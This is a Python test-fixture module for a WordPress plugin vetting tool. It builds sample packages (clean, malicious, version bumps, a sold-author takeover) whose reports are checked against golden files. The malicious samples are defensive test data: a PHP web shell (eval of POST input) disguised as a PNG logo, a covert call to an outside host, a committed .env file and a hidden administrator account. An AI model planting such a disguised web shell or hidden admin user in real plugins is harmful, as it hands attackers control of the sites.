"""The packages whose reports are compared word by word with tests/core/vetting/reports/."""

from collections.abc import Callable, Mapping

from packages import MAIN, known, plugin, reports

from reconciler.core.vetting.accepted import Acceptance
from reconciler.core.vetting.behaviour import Behaviour
from reconciler.core.vetting.bump import Bump, Fixed, compare
from reconciler.core.vetting.candidate import Grants
from reconciler.core.vetting.deed import Cost, Deed
from reconciler.core.vetting.lanes import lane
from reconciler.core.vetting.report import Report, report
from reconciler.core.vetting.vet import Around, Vetting, vet

TODAY = "2026-08-14"
README = "=== Event List ===\nContributors: {}\n"
NOW = MAIN.replace("3.10", "3.11")
GRANTS = Grants(network=("api.example",))
NOBODY_ASKED, KNOWN = known(None), known(30)
SAMPLE = b"PK\x03\x04 sample"


def call(host: str) -> str:
    return f"<?php\nwp_remote_get('https://{host}/v1');\n"


def alone(contents: Mapping[str, str | bytes], main: str = MAIN) -> Report:
    candidate = plugin(contents, main=main)
    return shown(
        vet(candidate, reports(candidate), around=Around(today=TODAY, standing="proposed"))
    )


def shown(vetting: Vetting) -> Report:
    """The report of a package without an older version, where nobody outside was asked."""
    return report(vetting, None, NOBODY_ASKED, lane(vetting, None, NOBODY_ASKED))


def bump(
    old: Mapping[str, str | bytes],
    new: Mapping[str, str | bytes],
    *,
    main: str = NOW,
    acceptances: tuple[Acceptance, ...] = (),
    fixes: tuple[Fixed, ...] = (),
    sites: tuple[str, ...] = (),
) -> Report:
    before = plugin(old, grants=GRANTS)
    after = plugin(new, main=main, version="3.11", grants=GRANTS)
    around = Around(acceptances=acceptances, today=TODAY)

    one = vet(before, reports(before), around=around)
    other = vet(after, reports(after), around=around)
    compared: Bump = compare(one, other, before.files, after.files, fixes)
    return report(compared.after, compared, KNOWN, lane(compared.after, compared, KNOWN), sites)


def accepted_sample() -> tuple[Acceptance, ...]:
    candidate = plugin({"data/sample.zip": SAMPLE})
    (finding,) = vet(candidate, reports(candidate)).findings
    return (
        Acceptance(
            code=finding.code, mark=finding.mark, because="sample events, opened by hand",
            until="2027-02-01", by=("kim", "ravi"),
        ),
    )  # fmt: skip


MANY_HOSTS = "<?php\n" + "".join(f"wp_remote_get('https://h{n}.example/');\n" for n in range(30))

RAN = Behaviour(
    now=(
        Deed("table", "{prefix}event_list"), Deed("option", "event_list_cache", amount=120_000),
        Deed("write", "{package}/cache.html", "inc/a.php", 2), Deed("page", "admin.php?page=events"),
        Deed("user", "helper", note="administrator"), Deed("shortcode", "events"),
    ),
    later=(Deed("host", "t.bright.example", "inc/a.php", 3, "GET https://t.bright.example/"),),
    left=(Deed("table", "{prefix}event_list"),),
    costs=(Cost("front page", 312.4, 40, 3),),
    later_days=270,
)  # fmt: skip


def ran() -> Report:
    candidate = plugin({"inc/a.php": "<?php\n"})
    vetting = vet(candidate, reports(candidate), RAN, around=Around(today=TODAY))
    return report(vetting, None, NOBODY_ASKED, lane(vetting, None, NOBODY_ASKED))


CASES: Mapping[str, Callable[[], Report]] = {
    "good": lambda: alone({"inc/a.php": "<?php\n"}),
    "bad": lambda: alone(
        {
            "data/sample.zip": SAMPLE,
            "img/logo.png": b"\x89PNG\0" + b"<?php eval($_POST['x']);",
            "inc/api.php": call("t.bright.example"),
            ".env": "KEY=1",
        },
        MAIN.replace("GPL-2.0-or-later", "Our own terms"),
    ),
    "ran": ran,
    "honest-bump": lambda: bump(
        {"inc/a.php": call("api.example"), "data/sample.zip": SAMPLE},
        {"inc/a.php": call("api.example") + "// tidied\n", "data/sample.zip": SAMPLE},
        acceptances=accepted_sample(),
        sites=("chess-club", "tea-house"),
        fixes=(Fixed(id="WF-12", title="SQL injection up to 3.10", severity="CVSS 8.1", days_public=6),),
    ),
    "sold-author": lambda: bump(
        {"readme.txt": README.format("nilsb")},
        {"readme.txt": README.format("brightapps"), "inc/stats.php": call("t.bright.example")},
        main=NOW.replace("Nils B.", "Bright Apps Ltd"),
        sites=("chess-club",),
    ),
    "crowded": lambda: bump(
        {}, {"inc/a.php": MANY_HOSTS, **{f"inc/f{n}.php": "<?php\n" for n in range(60)}}
    ),
}  # fmt: skip
